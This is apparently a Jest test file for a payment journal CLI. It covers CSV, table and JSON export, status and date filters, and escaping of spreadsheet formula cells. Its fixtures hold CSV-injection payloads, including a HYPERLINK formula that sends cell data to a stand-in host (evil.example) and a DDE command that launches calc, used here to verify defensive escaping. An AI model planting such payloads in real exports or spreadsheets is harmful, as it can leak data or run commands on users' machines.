import { execFile } from 'node:child_process';
import path from 'node:path';
import { promisify } from 'node:util';
import request from 'supertest';
import { declinedAnswer } from '../../src/contract/connector-answer';
import { openSqliteJournal } from '../../src/store/sqlite-journal';
import { claimFor } from '../helpers/journal-data';
import { REPO_ROOT, startService, temporaryDataDir } from '../helpers/service';
import { basicAuth, cardCharge } from '../helpers/test-data';

const run = promisify(execFile);
const CLI = path.join(REPO_ROOT, 'dist', 'cli', 'journal.js');

describe('npm run journal', () => {
  const dataDir = temporaryDataDir();
  const approved = cardCharge({ amount: '20.00' });
  const declined = cardCharge({ amount: '1.01' });

  beforeAll(async () => {
    const service = await startService({ DATA_DIR: dataDir });
    try {
      for (const body of [approved, declined]) await request(service.url).post('/').set('Authorization', basicAuth()).send(body);
    } finally {
      await service.stop();
    }
  });

  const journal = (...args: string[]) => run(process.execPath, [CLI, ...args], { env: { PATH: process.env.PATH ?? '', DATA_DIR: dataDir } });

  test('when records are exported as CSV, then there is a header and one row per record, newest first', async () => {
    const { stdout } = await journal('list', '--format', 'csv');
    const lines = stdout.trim().split('\n');
    expect(lines[0]).toBe(
      'created_at,transaction_id,connector,account,status,method,tender,amount,currency,card_brand,last4,gateway_transaction_id,error_code,error_message',
    );
    expect(lines.slice(1).map((line) => line.split(',')[1])).toEqual([declined.transaction_id, approved.transaction_id]);
    expect(lines[1]).toContain(',declined,charge,card,1.01,USD,visa,1111,,30002,DECLINED');
  });

  test('when filtered by status as a table, then only matching records are shown', async () => {
    const { stdout } = await journal('list', '--status', 'approved');
    expect(stdout).toContain(String(approved.transaction_id));
    expect(stdout).not.toContain(String(declined.transaction_id));
    expect(stdout).toContain('1 record(s)');
  });

  test('when asked for JSON for one transaction_id, then that record is printed', async () => {
    const { stdout } = await journal('list', '--transaction-id', String(approved.transaction_id), '--format', 'json');
    expect(JSON.parse(stdout)).toEqual([expect.objectContaining({ transaction_id: approved.transaction_id, status: 'approved', amount: '20.00' })]);
  });

  test('when a filter is invalid, then it exits 1 naming the problem', async () => {
    await expect(journal('list', '--since', 'last-week')).rejects.toMatchObject({ code: 1, stderr: expect.stringContaining('Invalid query: since') });
  });

  // They pass the date-time format, but Date.parse cannot read them (a leap second, an offset of hours only).
  test.each([
    ['--since', '2026-12-31T23:59:60Z'],
    ['--until', '2026-12-31T23:59:60Z'],
    ['--since', '2026-11-01T10:00:00+01'],
    ['--until', '2026-11-01T10:00:00-05'],
    ['--since', '2026-02-30'],
  ])('when %s is %s, then it exits 1 naming the filter instead of listing nothing', async (option, value) => {
    await expect(journal('list', option, value)).rejects.toMatchObject({ code: 1, stdout: '', stderr: expect.stringContaining(`Invalid query: ${option.slice(2)}: `) });
  });
});

describe('npm run journal CSV export with cells a spreadsheet would run as formulas', () => {
  const dataDir = temporaryDataDir();
  // Through the service: what a caller can put in transaction_id.
  const paidIds = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
  // Straight into the journal: error_message may hold tab and CR, which transaction_id may not.
  const errorMessages: Record<string, string> = { 'tab-message': '\t=1+1', 'cr-message': '\r=1+1', 'equals-message': '=1+1' };

  beforeAll(async () => {
    const service = await startService({ DATA_DIR: dataDir });
    try {
      for (const transactionId of paidIds) {
        const paid = await request(service.url).post('/').set('Authorization', basicAuth()).send(cardCharge({ transaction_id: transactionId }));
        expect(paid.body).toMatchObject({ error_code: null });
      }
    } finally {
      await service.stop();
    }
    const journal = openSqliteJournal(dataDir);
    try {
      for (const [transactionId, message] of Object.entries(errorMessages)) {
        const claim = claimFor(transactionId);
        await journal.claim(claim, Date.now());
        await journal.settle(
          claim,
          { status: 'declined', gatewayTransactionId: null, errorCode: 'GATEWAY_REJECTED', errorMessage: message, gatewayMs: 5, answer: declinedAnswer('charge', 'GATEWAY_REJECTED', message) },
          Date.now(),
        );
      }
    } finally {
      await journal.close();
    }
  });

  test('when exported, then every cell starting with = + - @ tab or CR is prefixed with a quote and keeps its text', async () => {
    const { stdout } = await run(process.execPath, [CLI, 'list', '--format', 'csv'], { env: { PATH: process.env.PATH ?? '', DATA_DIR: dataDir } });
    const [header, ...rows] = readCsv(stdout);
    const column = (name: string) => header!.indexOf(name);
    const byId = new Map(rows.map((row) => [row[column('transaction_id')]!.replace(/^'/, ''), row]));

    for (const transactionId of paidIds) expect(byId.get(transactionId)?.[column('transaction_id')]).toBe(`'${transactionId}`);
    for (const [transactionId, message] of Object.entries(errorMessages)) expect(byId.get(transactionId)?.[column('error_message')]).toBe(`'${message}`);
    expect(rows).toHaveLength(paidIds.length + Object.keys(errorMessages).length);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});

/** RFC 4180 as csv-stringify writes it: quoted cells may hold commas, quotes ("") and line breaks. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  return rows;
}
